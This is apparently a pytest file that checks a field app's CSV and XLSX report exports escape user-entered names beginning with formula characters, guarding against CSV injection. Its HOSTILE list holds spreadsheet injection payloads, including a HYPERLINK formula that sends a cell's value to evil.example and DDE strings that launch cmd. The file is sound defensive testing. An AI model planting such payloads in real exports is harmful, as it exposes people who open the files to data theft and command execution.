"""Exports never run what people typed: every text cell is text (OWASP CSV injection).

Names starting with ``= + - @``, tab or CR (households, members, villages, teams) are
written to every report kind, XLSX and CSV, through ``export_report`` (what the app's
export button calls) and the ``fieldapp report`` command. Reopened: no formula cell, every
such text has its ``'``, numbers stay numbers (negative ones too).
"""

from __future__ import annotations

import csv
import uuid
from datetime import date

import pytest
from openpyxl import load_workbook

from fieldapp.cli import main
from fieldapp.coverage import CoverageService, Period
from fieldapp.coverage.export import Table, export_report, write_csv, write_xlsx
from fieldapp.domain import Member, Role, Team, Village
from fieldapp.store import DeviceStore

PERIOD = Period(date(2026, 11, 1), date(2026, 11, 30))
TODAY = date(2026, 11, 20)
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _store(path) -> DeviceStore:
    store = DeviceStore.open(path)
    v, t = str(uuid.uuid4()), str(uuid.uuid4())
    members = [Member(str(uuid.uuid4()), name, Role.MEMBER, t) for name in HOSTILE[:2]]
    store.load_reference(
        villages=[Village(v, "18754", HOSTILE[0])],
        teams=[Team(t, HOSTILE[3], "18754", (v,))],
        members=members,
    )
    for i, name in enumerate(HOSTILE):
        hid = str(uuid.uuid4())
        store.save_household({"id": hid, "village_id": v, "head_name": name})
        store.save_visit(
            {
                "id": str(uuid.uuid4()),
                "household_id": hid,
                "member_id": members[i % 2].id,
                "visited_at": "2026-11-10T09:00:00+07:00",
                "consent": "given",
                "outcome": "done",
                "people_guided": 1,
                "activities": [{"kind": "vneid_installed"}],
            }
        )
    return store


def _check_csv(path) -> int:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    escaped = 0
    for row in rows[4:]:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (path.name, cell)
            escaped += cell.startswith("'") and cell[1:] in HOSTILE
    return escaped


def _check_xlsx(path) -> int:
    ws = load_workbook(path).active
    escaped = 0
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_START), (path.name, cell.value)
                escaped += cell.value.startswith("'") and cell.value[1:] in HOSTILE
    return escaped


@pytest.mark.parametrize("kind", ["villages", "members", "visits"])
def test_every_export_writes_typed_text_as_text(tmp_path, kind):
    store = _store(tmp_path / "d.db")
    try:
        service = CoverageService(store.db)
        export_report(service, kind, "csv", tmp_path / "r.csv", PERIOD, TODAY)
        export_report(service, kind, "xlsx", tmp_path / "r.xlsx", PERIOD, TODAY)
    finally:
        store.close()
    assert _check_csv(tmp_path / "r.csv") >= 1
    assert _check_xlsx(tmp_path / "r.xlsx") >= 1
    if kind == "visits":  # every household's name is in the log
        assert _check_csv(tmp_path / "r.csv") >= len(HOSTILE)


def test_the_report_command_writes_them_as_text_too(tmp_path):
    _store(tmp_path / "d.db").close()
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"luot.{fmt}"
        args = ["report", "--database", str(tmp_path / "d.db"), "--kind", "visits"]
        args += ["--format", fmt, "--from", "01/11/2026", "--to", "30/11/2026", "--out", str(out)]
        assert main(args) == 0
        check = _check_csv if fmt == "csv" else _check_xlsx
        assert check(out) >= len(HOSTILE)


def test_numbers_stay_numbers_and_text_stays_as_typed(tmp_path):
    table = Table("T", "S", ("Tên", "Số"), [["=1+1", -5], ["-", 0], ["An", 12]])
    write_xlsx(table, tmp_path / "t.xlsx")
    write_csv(table, tmp_path / "t.csv")
    ws = load_workbook(tmp_path / "t.xlsx").active
    data = [[c.value for c in r] for r in ws.iter_rows(min_row=6)]
    assert data == [["'=1+1", -5], ["'-", 0], ["An", 12]]
    assert ws.cell(row=6, column=2).data_type == "n"
    with (tmp_path / "t.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[5:] == [["'=1+1", "-5"], ["'-", "0"], ["An", "12"]]
